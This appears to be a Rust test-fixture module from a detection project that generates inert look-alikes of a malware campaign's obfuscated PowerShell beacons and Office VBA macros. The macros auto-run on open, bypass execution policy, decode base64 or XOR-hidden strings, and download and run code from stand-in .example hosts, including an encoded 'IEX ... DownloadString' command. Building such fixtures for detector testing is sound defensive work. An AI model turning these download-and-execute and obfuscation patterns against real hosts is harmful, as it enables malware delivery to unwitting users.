//! Inert look-alikes of the campaign's scripts and macros, each written anew by a seed.
//!
//! Their commands do nothing, their hosts are reserved names; what makes them look alike is how they are built.

// Each test takes its own part of this.
#![allow(dead_code)]

use crate::seed::Seed;
use std::io::{Cursor, Write};
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

impl Seed {
    pub fn name(&mut self) -> String {
        let length = 3 + self.below(8);
        (0..length)
            .map(|_| char::from(b'a' + self.below(26) as u8))
            .collect()
    }

    /// A string literal, whole or in pieces.
    fn quoted(&mut self, text: &str) -> String {
        match self.below(3) {
            0 => format!("'{text}'"),
            1 => format!("\"{text}\""),
            _ => {
                let at = 1 + self.below(text.len() - 1);
                format!("('{}' + '{}')", &text[..at], &text[at..])
            }
        }
    }

    /// A whole number as literal, hexadecimal or sum.
    fn number(&mut self, number: i64) -> String {
        match self.below(3) {
            0 => number.to_string(),
            1 => format!("0x{number:X}"),
            _ => {
                let less = self.below(number.max(1) as usize) as i64;
                format!("({less} + {})", number - less)
            }
        }
    }
}

/// The traits of the look-alike; each may be left out.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Trait {
    Form,
    Xor,
    Dispatch,
    Digits,
    Sleep,
    Rotation,
}

pub const ALL: [Trait; 6] = [
    Trait::Form,
    Trait::Xor,
    Trait::Dispatch,
    Trait::Digits,
    Trait::Sleep,
    Trait::Rotation,
];

fn dispatch(draw: &mut Seed, order: &str) -> String {
    let mut numbers: Vec<i64> = Vec::new();
    while numbers.len() < 6 {
        let number = 1 + draw.below(120) as i64;
        if !numbers.contains(&number) {
            numbers.push(number);
        }
    }
    let kind = draw.below(4);
    let arms: Vec<String> = numbers.iter().map(|number| draw.number(*number)).collect();
    let state = draw.name();
    match kind {
        0 => {
            let arms: Vec<String> = arms
                .iter()
                .map(|arm| format!("  {arm} {{ ${state} = {arm} }}\n"))
                .collect();
            format!("{} (${order}) {{\n{}}}\n", draw.case("switch"), arms.concat())
        }
        1 => {
            let tests: Vec<String> = arms
                .iter()
                .map(|arm| format!("if (${order} -eq {arm}) {{ ${state} = {arm} }}"))
                .collect();
            tests.join(" else") + "\n"
        }
        2 => {
            let tests: Vec<String> = arms
                .iter()
                .map(|arm| {
                    format!(
                        "{} ({arm} -ieq ${order}) {{ ${state} = {arm} }}\n",
                        draw.case("if")
                    )
                })
                .collect();
            tests.concat()
        }
        _ => {
            let pairs: Vec<String> = arms
                .iter()
                .map(|arm| format!("{arm} = {{ ${state} = {arm} }}"))
                .collect();
            format!("$h{state} = @{{ {} }}\n& $h{state}[${order}]\n", pairs.join("; "))
        }
    }
}

fn xor(draw: &mut Seed, data: &str) -> String {
    let written = 1 + draw.below(254) as i64;
    let key = draw.number(written);
    let (i, k) = (draw.name(), draw.name());
    match draw.below(4) {
        0 => format!(
            "{} (${i} = 0; ${i} -lt ${data}.Length; ${i}++) {{ ${data}[${i}] = ${data}[${i}] {} {key} }}\n",
            draw.case("for"),
            draw.case("-bxor")
        ),
        1 => format!(
            "${data} = ${data} | {} {{ $_ -bxor {key} }}\n",
            draw.pick(&["%", "foreach", "ForEach-Object"])
        ),
        2 => format!("${k} = {key}\n${data} = foreach (${i} in ${data}) {{ [byte](${k} -bxor ${i}) }}\n"),
        _ => format!(
            "${k} = 7, 99, 23\n${i} = 0\nwhile (${i} -lt ${data}.Length) {{ ${data}[${i}] = ${data}[${i}] -bxor ${k}[${i} % ${k}.Length]; ${i}++ }}\n"
        ),
    }
}

fn digits(draw: &mut Seed, name: &str) -> String {
    let (from, to) = (draw.number(48), draw.number(57));
    let random = draw.case("get-random");
    match draw.below(5) {
        0 => format!("${name} = -join(({from}..{to}) | {random} -Count 12 | % {{ [char]$_ }})\n"),
        1 => format!("${name} = -join ('4079218365'.ToCharArray() | {random} -Count 10)\n"),
        2 => format!(
            "$d{name} = 0..9\n${name} = ($d{name} | {} {{ {random} }}) -join ''\n",
            draw.pick(&["sort", "Sort-Object"])
        ),
        3 => format!("${name} = ({random} -InputObject (0, 1, 2, 3, 4, 5, 6, 7, 8, 9) -Count 10) -join ''\n"),
        _ => format!("$r{name} = 57..48\n${name} = $r{name} | {random} -Count 10 | foreach {{ [char]$_ }}\n"),
    }
}

/// Writes one look-alike without the traits of `but`.
pub fn look_alike(seed: u64, but: &[Trait]) -> String {
    let mut draw = Seed(seed);
    let has = |one: Trait| !but.contains(&one);
    let [urls, at, data, order, id, reply, body, ask] = std::array::from_fn(|_| draw.name());
    let hosts: Vec<String> = (0..3)
        .map(|_| format!("'https://{}.example/{}.php'", draw.name(), draw.name()))
        .collect();
    let sleep = match draw.below(3) {
        0 => format!("{} {}\n", draw.case("start-sleep"), 30 + draw.below(90)),
        1 => format!("sleep -s {}\n", 30 + draw.below(90)),
        _ => format!(
            "[System.Threading.Thread]::Sleep({})\n",
            30_000 + draw.below(9999)
        ),
    };
    let disposition = draw.quoted("Content-Disposition: form-data; name=");
    let mut parts = [
        if has(Trait::Digits) {
            digits(&mut draw, &id)
        } else {
            format!("${id} = 'same'\n")
        },
        if has(Trait::Form) {
            format!("${body} = {disposition} + ${id}\n")
        } else {
            format!("${body} = ${id}\n")
        },
        if has(Trait::Xor) {
            xor(&mut draw, &data)
        } else {
            String::new()
        },
    ];
    if draw.below(2) == 0 {
        parts.swap(0, 2);
    }
    let choose = if has(Trait::Rotation) {
        format!("${at} = (${at} + 1) % 3\n$u{at} = ${urls}[${at}]\n")
    } else {
        format!("$u{at} = ${urls}[0]\n")
    };
    let request = format!(
        "${ask} = [{}]::Create($u{at} + '?v=' + ${id})\n${ask}.Method = 'POST'\n${reply} = ${ask}.GetResponse()\n${order} = [BitConverter]::ToInt32(${data}, 0)\n",
        draw.pick(&[
            "System.Net.WebRequest",
            "Net.HttpWebRequest",
            "System.Net.HttpWebRequest"
        ])
    );
    let round = format!(
        "{choose}{}{request}{}{}",
        parts.concat(),
        if has(Trait::Dispatch) {
            dispatch(&mut draw, &order)
        } else {
            String::new()
        },
        if has(Trait::Sleep) { sleep } else { String::new() }
    );
    let set = format!(
        "${urls} = @({})\n${at} = 0\n[byte[]]${data} = 1, 2, 3, 4, 5, 6, 7, 8\n",
        hosts.join(", ")
    );
    match draw.below(3) {
        0 => format!("{set}while ($true) {{\n{round}}}\n"),
        1 => format!("function r{ask} {{\n{round}}}\n{set}do {{ r{ask} }} while (1)\n"),
        _ => format!("{set}for (;;) {{\n{round}}}\n"),
    }
}

/// The kinds of macro documents that the campaign sends.
pub const DOCUMENTS: [&str; 4] = [
    "drop and bypass",
    "download on a Mac",
    "a workbook rebuilt",
    "an encoded command",
];

/// Returns a document of one of [`DOCUMENTS`].
pub fn document(kind: &str, seed: u64) -> Vec<u8> {
    let mut draw = Seed(seed ^ 0x5EED);
    let macros = match kind {
        "drop and bypass" => dropper(&mut draw),
        "download on a Mac" => mac(&mut draw),
        "a workbook rebuilt" => rebuilder(&mut draw),
        _ => encoded(&mut draw),
    };
    docm(&macros)
}

/// A text in pieces over several functions, written under a random name and started with the policy set aside.
fn dropper(draw: &mut Seed) -> String {
    let text = format!(
        "Invoke-WebRequest -Uri https://{}.example/a -OutFile {}.bin",
        draw.name(),
        draw.name()
    );
    let names: Vec<String> = (0..3).map(|number| format!("{}{number}", draw.name())).collect();
    let size = text.len().div_ceil(names.len());
    let pieces: Vec<&str> = text
        .as_bytes()
        .chunks(size)
        .map(|piece| std::str::from_utf8(piece).unwrap())
        .collect();
    let functions: String = names
        .iter()
        .zip(&pieces)
        .map(|(name, piece)| match draw.below(3) {
            0 => format!("Function {name}()\n  {name} = \"{piece}\"\nEnd Function\n"),
            1 => {
                let back: String = piece.chars().rev().collect();
                format!("Function {name}()\n  {name} = StrReverse(\"{back}\")\nEnd Function\n")
            }
            _ => {
                let key = 1 + draw.below(30) as u32;
                let codes: Vec<String> = piece.chars().map(|c| (u32::from(c) ^ key).to_string()).collect();
                format!(
                    "Function {name}()\n  Dim p, i\n  p = Split(\"{}\", \",\")\n  For i = 0 To UBound(p)\n    {name} = {name} & Chr(CInt(p(i)) Xor {key})\n  Next\nEnd Function\n",
                    codes.join(",")
                )
            }
        })
        .collect();
    let (path, file, length, entry) = (
        draw.name(),
        draw.name(),
        6 + draw.below(9),
        draw.pick(&["AutoOpen", "Document_Open", "AutoExec"]),
    );
    let bypass = draw.pick(&[
        "-ep bypass -f",
        "-ExecutionPolicy Bypass -File",
        "-exec byp\" & \"ass -f",
        "-ex unrestricted -file",
    ]);
    format!(
        "{functions}Function nm{path}(n)\n  Dim i\n  For i = 1 To n\n    nm{path} = nm{path} & Chr(97 + Int(Rnd() * 26))\n  Next\nEnd Function\n\
         Sub {entry}()\n  Dim x{path}, y{file}\n  x{path} = Environ(\"TEMP\") & \"\\\" & nm{path}({length}) & \".ps1\"\n  y{file} = FreeFile\n  \
         Open x{path} For Output As #y{file}\n  Print #y{file}, {}\n  Close #y{file}\n  Shell \"powershell {bypass} \" & x{path}, 0\nEnd Sub\n",
        names.join(" & ")
    )
}

/// Under `#If Mac`: fetched to a random name, made executable, started through the system's library.
fn mac(draw: &mut Seed) -> String {
    let (url, path, entry) = (
        draw.name(),
        draw.name(),
        draw.pick(&["AutoOpen", "Document_Open"]),
    );
    let mode = draw.pick(&["+x", "755", "u+x"]);
    let fetch = draw.pick(&["curl -o", "curl -s --output", "curl -sko"]);
    format!(
        "#If Mac Then\nPrivate Declare PtrSafe Function popen Lib \"libc.dylib\" (ByVal c As String, ByVal m As String) As LongPtr\n\
         Private Const u{url} = \"https://{url}.example/{path}\"\n#End If\n\
         Sub {entry}()\n#If Mac Then\n  Dim t{path} As String, i As Integer, r\n  t{path} = \"/tmp/\"\n  For i = 1 To 13\n    t{path} = t{path} & Chr(97 + Int(Rnd() * 26))\n  Next\n  \
         r = popen(\"{fetch} \" & t{path} & \" \" & u{url}, \"r\")\n  r = popen(\"chmod {mode} \" & t{path}, \"r\")\n  r = popen(t{path}, \"r\")\n#End If\nEnd Sub\n"
    )
}

/// A second workbook rebuilt from base64 and opened.
fn rebuilder(draw: &mut Seed) -> String {
    use base64::Engine;
    let inner = docm("Sub Auto_Open()\n  x = 1\nEnd Sub\n");
    let text = base64::engine::general_purpose::STANDARD.encode(&inner);
    let (name, size) = (draw.name(), 400 + draw.below(300));
    let lines: String = text
        .as_bytes()
        .chunks(size)
        .map(|piece| {
            format!(
                "  s{name} = s{name} & \"{}\"\n",
                std::str::from_utf8(piece).unwrap()
            )
        })
        .collect();
    format!(
        "Sub Workbook_Open()\n  Dim s{name}, d, n, b, p\n{lines}  Set d = CreateObject(\"MSXML2.DOMDocument\")\n  Set n = d.createElement(\"b\")\n  \
         n.DataType = \"bin.base64\"\n  n.Text = s{name}\n  p = Environ(\"TEMP\") & \"\\{name}.xlsm\"\n  Set b = CreateObject(\"ADODB.Stream\")\n  \
         b.Type = 1\n  b.Open\n  b.Write n.nodeTypedValue\n  b.SaveToFile p, 2\n  Workbooks.Open p\nEnd Sub\n"
    )
}

fn encoded(draw: &mut Seed) -> String {
    use base64::Engine;
    let script = format!(
        "IEX (New-Object Net.WebClient).DownloadString('https://{}.example/{}')",
        draw.name(),
        draw.name()
    );
    let wide: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let text = base64::engine::general_purpose::STANDARD.encode(wide);
    format!(
        "Sub AutoOpen()\n  Dim c\n  c = \"power\" & \"shell -w hidden -{} {text}\"\n  Shell c, 0\nEnd Sub\n",
        draw.pick(&["enc", "e", "EncodedCommand"])
    )
}

/// Returns a document with one module.
pub fn docm(macros: &str) -> Vec<u8> {
    const TYPES: &str = "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>";
    let project = strongroom_files::write_vba_project(&[("ThisDocument", macros)]);
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in [
        ("[Content_Types].xml", TYPES.as_bytes()),
        ("word/vbaProject.bin", &project),
    ] {
        writer.start_file(name, SimpleFileOptions::default()).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}
